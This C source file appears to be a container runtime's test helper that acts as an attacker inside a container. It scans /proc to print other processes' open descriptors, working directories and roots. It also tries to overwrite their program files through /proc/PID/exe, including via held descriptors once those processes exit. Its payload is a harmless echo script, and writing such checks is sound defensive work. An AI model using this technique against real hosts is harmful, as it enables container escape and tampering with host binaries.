/* SPDX-License-Identifier: Apache-2.0 */

/*
 * watch: an attacker inside a container. It looks at every process that appears beside it and
 * tries to get at what a runtime that enters the container may have open.
 *
 * watch fds: prints each target of a foreign descriptor, working directory or root that it can read.
 * watch exe: tries to open each foreign program file for writing, now and after the process is
 *            gone, and overwrites it if it can.
 */

#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

enum { MAX_HELD = 512 };

static int held[MAX_HELD]; /* O_PATH descriptors of program files */
static int n_held;

static void print_link(const char *path)
{
	char target[PATH_MAX];
	ssize_t n = readlink(path, target, sizeof(target) - 1);

	if (n <= 0)
		return;
	target[n] = '\0';
	printf("%s %s\n", path, target);
}

static void look_at_fds(const char *pid)
{
	char path[PATH_MAX];
	struct dirent *d;
	DIR *dir;

	snprintf(path, sizeof(path), "/proc/%s/cwd", pid);
	print_link(path);
	snprintf(path, sizeof(path), "/proc/%s/root", pid);
	print_link(path);
	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	dir = opendir(path);
	if (!dir)
		return;
	while ((d = readdir(dir))) {
		if (d->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "/proc/%s/fd/%s", pid, d->d_name);
		print_link(path);
	}
	closedir(dir);
}

static void overwrite(int fd)
{
	static const char text[] = "#!/bin/sh\necho overwritten\n";

	printf("opened for writing\n");
	if (write(fd, text, sizeof(text) - 1) > 0)
		printf("overwritten\n");
	close(fd);
}

static void try_exe(const char *pid)
{
	char path[PATH_MAX];
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_WRONLY | O_TRUNC);
	if (fd >= 0)
		overwrite(fd);
	fd = open(path, O_PATH);
	if (fd >= 0 && n_held < MAX_HELD)
		held[n_held++] = fd;
	else if (fd >= 0)
		close(fd);
}

/* A program file is busy as long as it runs; afterwards it may be opened. */
static void try_held(void)
{
	char path[64];

	for (int i = 0; i < n_held; i++) {
		int fd;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
		fd = open(path, O_WRONLY | O_TRUNC);
		if (fd >= 0)
			overwrite(fd);
	}
}

int main(int argc, char **argv)
{
	bool exe = argc > 1 && strcmp(argv[1], "exe") == 0;

	setvbuf(stdout, NULL, _IOLBF, 0);
	printf("watching\n");
	for (;;) {
		struct dirent *d;
		DIR *dir = opendir("/proc");

		while (dir && (d = readdir(dir))) {
			if (!isdigit((unsigned char)d->d_name[0]) ||
			    strtol(d->d_name, NULL, 10) == getpid())
				continue;
			if (exe)
				try_exe(d->d_name);
			else
				look_at_fds(d->d_name);
		}
		if (dir)
			closedir(dir);
		try_held();
	}
}
